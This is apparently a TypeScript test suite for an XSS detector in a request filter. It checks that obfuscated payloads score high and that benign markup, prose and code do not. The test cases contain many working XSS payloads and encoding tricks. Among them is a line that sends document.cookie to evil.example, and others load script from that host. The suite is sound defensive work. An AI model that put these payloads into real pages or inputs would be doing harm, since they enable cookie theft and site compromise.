import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { viewsOf } from '../../decode/views.ts';
import type { InputKind } from '../../types.ts';
import { xssDetector } from './xss.ts';

/** The strongest score per rule for one value. */
function scores(value: string, kind: InputKind = 'query', location = 'query.q'): Map<string, number> {
  const out = new Map<string, number>();
  for (const hit of xssDetector.detect(viewsOf(value), kind, location))
    out.set(hit.rule, Math.max(out.get(hit.rule) ?? 0, hit.score));
  return out;
}

function strongest(value: string, kind?: InputKind, location?: string): number {
  return Math.max(0, ...scores(value, kind, location).values());
}

/** The points a value scores at paranoia 1 (each rule once, at its strongest): 5 blocks. */
function pointsAtP1(value: string): number {
  const best = new Map<string, number>();
  for (const hit of xssDetector.detect(viewsOf(value), 'query', 'query.q'))
    if (hit.paranoia === 1) best.set(hit.rule, Math.max(best.get(hit.rule) ?? 0, hit.score));
  return [...best.values()].reduce((sum, score) => sum + score, 0);
}

describe('xss detector', () => {
  test('finds script-capable tags and event handlers', () => {
    assert.equal(scores('<script>alert(1)</script>').get('xss.script-tag'), 5);
    assert.equal(scores('<iframe src=//evil.example>').get('xss.active-tag'), 5);
    assert.equal(scores('<svg/onload=alert(1)>').get('xss.event-handler'), 5);
    assert.equal(scores('<img src=x onerror="alert(1)">').get('xss.event-handler'), 5);
  });

  test('finds script URLs, also split by tabs and written as entities', () => {
    assert.equal(scores('<a href="javascript:alert(1)">x</a>').get('xss.script-url'), 5);
    assert.equal(strongest('java\tscript:alert(1)'), 5);
    assert.equal(strongest('<a href="&#106;avascript&colon;alert(1)">'), 5);
    assert.equal(strongest('data:text/html;base64,PHNjcmlwdD4='), 5);
  });

  test('finds CSS expressions and attribute breakouts', () => {
    assert.equal(scores('<div style="width: expression(alert(1))">').get('xss.css-expression'), 5);
    assert.equal(scores('" onmouseover="alert(1)').get('xss.attribute-breakout'), 5);
    assert.equal(strongest("';alert(String.fromCharCode(88,83,83))//"), 5);
  });

  test('sees through percent-encoding and full-width forms', () => {
    assert.equal(strongest('%3Cscript%3Ealert(1)%3C%2Fscript%3E'), 5);
    assert.equal(strongest('＜ｓｃｒｉｐｔ＞alert(1)'), 5);
  });

  test('lets ordinary markup, prose and code in Markdown through', () => {
    for (const benign of [
      '<p>Hello <b>world</b></p>',
      '<a href="https://example.com/docs">docs</a>',
      'Convert a CoffeeScript file to JavaScript: `decaffeinate path/to/file.coffee`',
      'More information: <https://example.com/page>.',
      'Use `x < y` when comparing',
      'Please confirm your order',
    ]) {
      assert.ok(strongest(benign) < 5, benign);
    }
  });

  test('finds script without markup: indirect calls, bracket access, navigation, JSFuck, UTF-7', () => {
    assert.equal(strongest('alert?.(document.domain)'), 5);
    assert.equal(strongest('alert.call(null,1)'), 5);
    assert.equal(scores("window['document']['cookie']").get('xss.bracket-access'), 5);
    assert.equal(scores('document["write"](1)').get('xss.bracket-access'), 5);
    assert.equal(scores('Reflect.apply(alert,null,[1])').get('xss.computed-call'), 5);
    assert.equal(scores('location=name').get('xss.location-assign'), 5);
    assert.equal(scores('[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]').get('xss.jsfuck'), 5);
    assert.equal(scores('+ADw-script+AD4-alert(1)+ADw-/script+AD4-').get('xss.encoded-markup'), 5);
    assert.equal(scores('\u00bcscript\u00bealert(1)\u00bc/script\u00be').get('xss.encoded-markup'), 5);
  });

  test('leaves code-like prose and data alone', () => {
    for (const value of [
      'my location = Berlin',
      'array[0] and window["size"]',
      'the alert was called twice',
      '[[1,2],[3,4]]',
      'AB+ADw',
      'price ¼ off',
    ])
      assert.equal(strongest(value, 'body', 'body.text'), 0, value);
  });

  test('reads a URL attribute as a URL whatever follows its colon, and finds sinks handed over as callbacks', () => {
    assert.equal(
      scores('<IMG\nSRC\n=\n"\nj\na\nv\na\ns\nc\nr\ni\np\nt\n:\na\nl\ne\nr\nt\n(1)">').get('xss.script-url'),
      5,
    );
    assert.equal(scores('[1].find(alert)').get('xss.computed-call'), 5);
  });

  test('reads CSS the way a browser does: escapes, comments and script URLs in url()', () => {
    // `-moz-binding` spelled with a backslash before every letter, and with hex escapes.
    assert.equal(
      scores('<p style="\\2d moz\\-b\\i\\nding:url(//evil.example/x.xml#a)">').get('xss.css-expression'),
      5,
    );
    assert.equal(scores('<p style="w\\69 dth:e\\78pression(alert(1))">').get('xss.css-expression'), 5);
    assert.equal(scores('<p style="width:exp/* gap */ression(alert(1))">').get('xss.css-expression'), 5);
    // `url(javascript:…)` written in CSS hex escapes (IE fetched it as a script).
    const escaped = [...'javascript:alert(7)'].map((c) => `\\${c.charCodeAt(0).toString(16)} `).join('');
    assert.equal(scores(`<p style="background:url('${escaped}')">`).get('xss.css-expression'), 5);
    // Benign look-alikes: an escaped font name, an image url.
    assert.equal(strongest('<p style="font-family:\\5b8b\\4f53; background:url(/img/bg.png)">'), 2);
  });

  test('an XHTML prefix does not hide the element, nor an end tag its style', () => {
    assert.equal(
      scores('<x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script>').get('xss.script-tag'),
      5,
    );
    assert.equal(scores('</p style="x:expression(go())">').get('xss.css-expression'), 5);
    assert.equal(strongest('</b></i>'), 0);
  });

  test('a dialog or eval stored in a variable and called through it', () => {
    assert.equal(scores('k=confirm;k(document.domain)').get('xss.sink-alias'), 5);
    assert.equal(scores('x];run=eval,msg=prompt;run(msg(2))//').get('xss.sink-alias'), 5);
    // Stored but never called: still only a reference.
    assert.equal(scores('callback=alert,').get('xss.sink-alias'), undefined);
    assert.equal(strongest('We raise an alert, then evaluate (quickly) the result'), 0);
  });

  test('comments between a sink and its parenthesis, a ternary before it', () => {
    assert.equal(scores('onclick=prompt/* x */(1)').get('xss.js-sink'), 5);
    assert.equal(scores('x?confirm(1):0').get('xss.js-sink'), 5);
  });

  test('a script element built by script', () => {
    assert.equal(
      scores("d=document;d.body.appendChild(d.createElement('script')).src='//x.example/a.js'").get(
        'xss.dom-element',
      ),
      5,
    );
    assert.equal(scores('createElement( "iframe" )').get('xss.dom-element'), 5);
    assert.equal(strongest('use createElement to build a div'), 0);
  });

  test('document-level markup counts from paranoia 2; the rich text of comments does not', () => {
    const rule = (value: string) =>
      xssDetector.detect(viewsOf(value), 'query', 'query.q').find((h) => h.rule === 'xss.document-tag');
    for (const value of [
      '<body>',
      '</html>',
      '<input name=pw type=password>',
      '<svg:svg>',
      '<!--[if IE]><b>x</b><![endif]-->',
    ])
      assert.equal(rule(value)?.paranoia, 2, value);
    for (const value of [
      '<b>bold</b> and <i>it</i>',
      '<p>Hi</p><ul><li>one</li></ul>',
      'a <bodyguard> tag',
      '2 < 3 > 1',
    ])
      assert.equal(rule(value), undefined, value);
  });

  test('an ActiveX object created by script', () => {
    assert.equal(scores("new ActiveXObject('WScript.Shell').Run('calc')").get('xss.dom-element'), 5);
  });

  test("an end tag that leaves the page's inline script, not one closing a script of its own", () => {
    assert.equal(scores('"}}</script><b>').get('xss.script-breakout'), 5);
    assert.equal(scores('</script >').get('xss.script-breakout'), 5);
    assert.equal(scores('x = 1;</script>').get('xss.script-breakout'), 5);
    // A snippet with its own start tag, or prose that names the tag.
    assert.equal(scores('<script src=a.js></script>').get('xss.script-breakout'), undefined);
    assert.equal(scores('put it before the </script> tag').get('xss.script-breakout'), undefined);
  });

  test('markup whose letters were written as escapes was hidden on purpose', () => {
    assert.equal(scores('%3c%69%6d%67%20%73%72%63%3d%78%3e').get('xss.encoded-letters'), 3);
    assert.equal(strongest('%3cimg%20%73rc=x%20alt=y%3e'), 3);
    assert.equal(strongest('&#60;&#105;&#102;&#114;&#97;&#109;&#101;&#62;'), 5);
    // Escaped punctuation only (`%3C`, `&lt;`) is how clients and templates write markup.
    assert.equal(scores('%3Cb%3Ebold%3C%2Fb%3E').get('xss.encoded-letters'), undefined);
    assert.equal(scores('&lt;p class=&quot;x&quot;&gt;').get('xss.encoded-letters'), undefined);
  });

  test('filter probes count from paranoia 2: a bare handler name, a lone encoded angle bracket', () => {
    const found = (value: string) =>
      xssDetector.detect(viewsOf(value), 'query', 'query.q').map((h) => `${h.rule}@${h.paranoia}`);
    assert.deepEqual(found('onpointerenter'), ['xss.handler-name@2']);
    assert.deepEqual(found('&#x003C;'), ['xss.encoded-angle@2']);
    assert.deepEqual(found('%3c'), ['xss.encoded-angle@2']);
    // Words that start like one, plain text, a comparison operator typed as itself.
    assert.deepEqual(found('onboarding'), []);
    assert.deepEqual(found('online shop'), []);
    assert.deepEqual(found('<'), []);
  });

  test('a link whose host is disguised: an IPv4 integer, hex or octal parts, credentials, a bogus port', () => {
    for (const value of [
      '<a href="http://1113982867/">x</a>',
      '<A HREF="http://0x42.0x0000066.0x7.0x93/">x</A>',
      '<a href="http://0102.0146.0007.00000223/">x</a>',
      '<img src="//3627734539/x.png">',
      '<a href="http://trusted.example@evil.example/">x</a>',
      '<a href="http://google:ha.ckers.org">x</a>',
      '<a href="http://www.gohttp://www.google.com/ogle.com/">x</a>',
    ]) {
      assert.equal(scores(value).get('xss.disguised-host'), 3, value);
      assert.ok(pointsAtP1(value) >= 5, value);
    }
    // Links people write: names, dotted IPv4, IPv6, ports, relative and protocol-relative addresses.
    for (const value of [
      '<a href="https://example.com:8443/docs">docs</a>',
      '<a href="http://192.168.1.1/">router</a>',
      '<a href="http://[::1]:3000/">local</a>',
      '<img src="//cdn.example.com/a.png">',
      '<a href="/users/1113982867">profile</a>',
      '<a href="mailto:team@example.com">mail</a>',
      '<a href="https://example.com/?next=http://a@b">x</a>',
    ])
      assert.equal(scores(value).get('xss.disguised-host'), undefined, value);
  });

  test('URLs of old browser protocols that reach local files or other programs', () => {
    for (const value of [
      'mhtml:http://evil.example/test.html!xss.html',
      '<iframe src="ms-its:mhtml:file://c:\\x.mht!http://evil.example/x.chm::/x.htm">',
      'res://c:\\program files\\adobe\\acrobat 7.0\\acrobat\\acrobat.dll/#2/#210',
      'res://ieframe.dll/acr_error.htm#evil.example,javascript:alert(1)',
      'firefoxurl:test" -chrome "javascript:alert(1)',
      'mk:@MSITStore:C:\\x.chm::/x.htm',
    ])
      assert.equal(scores(value).get('xss.legacy-scheme'), 5, value);
    // Godot's resource paths, the format named in prose.
    for (const value of [
      'load("res://scenes/main.tscn")',
      'Save the page as MHTML: MIME HTML keeps images inline',
      'the resources://x scheme',
    ])
      assert.equal(scores(value).get('xss.legacy-scheme'), undefined, value);
  });

  test("a password field in markup, IE's behaviour namespaces", () => {
    assert.equal(scores('<input name="secret" type="password">').get('xss.credential-field'), 3);
    assert.ok(pointsAtP1('<form action=//evil.example><input type=password name=p></form>') >= 5);
    assert.equal(scores('<input type="text" name="user">').get('xss.credential-field'), undefined);
    assert.equal(scores('the password input type').get('xss.credential-field'), undefined);
    assert.equal(
      scores('<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">').get('xss.ie-namespace'),
      5,
    );
    assert.equal(scores('<XML:NAMESPACE PREFIX="t">').get('xss.ie-namespace'), 5);
    assert.equal(scores('the xml:namespace attribute of the schema').get('xss.ie-namespace'), undefined);
  });

  test('ASCII spelled as numeric references counts from paranoia 2, at 1 when it spells escapes', () => {
    const found = (value: string, kind: InputKind = 'query') =>
      xssDetector
        .detect(viewsOf(value), kind, 'query.q')
        .filter((h) => h.rule.startsWith('xss.reference-spelled'))
        .map((h) => `${h.rule}@${h.paranoia}`);
    // `\i\n\d…` and `\/xbl\/`: CSS escapes under the references, also escaped once more.
    assert.deepEqual(found('#98&#92&#105&#92&#110&#100&#92&#105&#110&#92&#103:&'), [
      'xss.reference-spelled.escapes@1',
    ]);
    assert.deepEqual(found('&amp;#92&amp;#47&amp;#120&amp;#98&amp;#108&amp;#92&amp;#47'), [
      'xss.reference-spelled.escapes@1',
    ]);
    assert.deepEqual(
      found('&amp;amp;#39;&amp;amp;#88;&amp;amp;#83;&amp;amp;#83;&amp;amp;#39;&amp;amp;#41;'),
      ['xss.reference-spelled@2'],
    );
    // Characters a keyboard lacks, one at a time; a short run; the escapes of markup characters.
    assert.deepEqual(found('caf&#233; &#8364;5 &#8217;s'), []);
    assert.deepEqual(found('&#60;b&#62;bold'), []);
    assert.deepEqual(found('&#38;&#38;&#38; &#38;&#38;&#38;'), []);
  });

  test('escape-spelled markup is found in a percent-encoded cookie as in a query', () => {
    const line = '%3c%69%6d%67%2f%73%72%63%3d%31';
    assert.equal(scores(line).get('xss.encoded-letters'), 3);
    assert.equal(scores(encodeURIComponent(line), 'cookie', 'cookie.q').get('xss.encoded-letters'), 3);
    const ascii = '\u00bcscript\u00bealert(1)\u00bc/script\u00be';
    assert.equal(scores(encodeURIComponent(ascii), 'cookie', 'cookie.q').get('xss.encoded-markup'), 5);
    // A cookie with a stray percent sign is read as it came.
    assert.equal(strongest('50%off', 'cookie', 'cookie.q'), 0);
  });

  test('a name built from string pieces: DOM objects, sinks, script schemes', () => {
    for (const value of [
      "document['coo'+'kie']",
      "parent['docu' + 'ment']['write']('x')",
      "Function('ale'+'rt(1)')()",
      'location.href="jav"+"ascript:"+"alert(1)"',
      "d.createElement('scr'+'ipt')",
      // A stray quote before does not shift which quotes pair up.
      "x' document['coo'+'kie']",
      "'a'+'b' document['coo'+'kie']",
    ])
      assert.equal(scores(value).get('xss.string-built'), 5, value);
    // Prose and code that join strings, a name in one piece, JSON members.
    for (const value of [
      "greeting = 'Hello, ' + 'world'",
      "path = 'docs/' + 'index.html'",
      "key = 'cookie' + ''",
      '{"a":"docu","b":"ment"}',
      "it's 'java' + 'script' day",
      "'it' + 's'",
    ])
      assert.equal(scores(value).get('xss.string-built'), undefined, value);
  });

  test('the cookie joined into an address at the end of a value', () => {
    assert.equal(strongest("x=new Image();x.src='//evil.example/?c='+document.cookie"), 5);
    // Prose that names the property.
    assert.ok(strongest('How do I read document.cookie') < 5);
    assert.ok(strongest('see `document.cookie`') < 5);
  });

  test('script that navigates to another site counts from paranoia 2', () => {
    const found = (value: string) =>
      xssDetector
        .detect(viewsOf(value), 'query', 'query.q')
        .filter((h) => h.rule.startsWith('xss.location-assign'))
        .map((h) => `${h.rule}@${h.paranoia}`);
    assert.deepEqual(found("top.location='//evil.example'"), ['xss.location-assign.url@2']);
    assert.deepEqual(found('location="http://html5sec.org";'), ['xss.location-assign.url@2']);
    assert.deepEqual(found('my location = "Berlin"'), []);
    assert.deepEqual(found('location.href = "/login"'), []);
  });
});

describe('xss sinks and CSS in code and prose that only look like them', () => {
  test('a sink that runs a string counts with one; a function, a declaration or an own module does not', () => {
    for (const attack of [
      "setTimeout('alert(1)')",
      'setTimeout(name)',
      '[].constructor.constructor("alert(1)")()',
      "import('//evil.example/x.js')",
      "import('data:text/javascript,alert(1)')",
      'import(location.hash.slice(1))',
    ])
      assert.ok(strongest(attack, 'body', 'body.q') >= 3, attack);
    for (const code of [
      'const id = setTimeout(function () { next() }, 10)',
      'setInterval(() => tick(), 1000)',
      'setTimeout(async (done) => done(), 5)',
      'class Client { constructor(url: string, options?: Options) {} }',
      "app.register(import('./plugins/auth.js'))",
      "const { readFile } = await import('node:fs/promises')",
    ])
      assert.equal(scores(code, 'body', 'body.q').has('xss.js-sink'), false, code);
  });

  test("IE's behavior and binding load script through url(); the words in prose do not", () => {
    assert.equal(strongest('<div style="behavior: url(x.htc)">', 'body', 'body.q'), 5);
    assert.equal(
      scores('**Behavior:** logs are batched; the style option sets their format', 'body', 'body.q').has(
        'xss.css-expression',
      ),
      false,
    );
    assert.equal(
      scores('Key binding: Ctrl+Shift+P opens the style editor', 'body', 'body.q').has('xss.css-expression'),
      false,
    );
  });

  test('a computed call on window counts; a Markdown link after the word does not', () => {
    assert.equal(strongest("window['al'+'ert'](1)", 'body', 'body.q'), 5);
    assert.equal(
      scores(
        'use globalThis instead of window [`#267`](https://github.com/x/y/pull/267)',
        'body',
        'body.q',
      ).has('xss.computed-call'),
      false,
    );
  });
});

test('a type argument (Array<object>) is no plugin; an object or iframe written as markup counts', () => {
  for (const code of [
    'metricsArr: Array<object>,',
    'Promise<Object>',
    'List<Object> items = new ArrayList<>();',
  ])
    assert.equal(scores(code, 'body', 'body.q').has('xss.active-tag'), false, code);
  for (const markup of ['"><object>', '<iframe>', 'x <embed src=//evil.example/x.swf>'])
    assert.equal(scores(markup, 'body', 'body.q').get('xss.active-tag'), 5, markup);
});
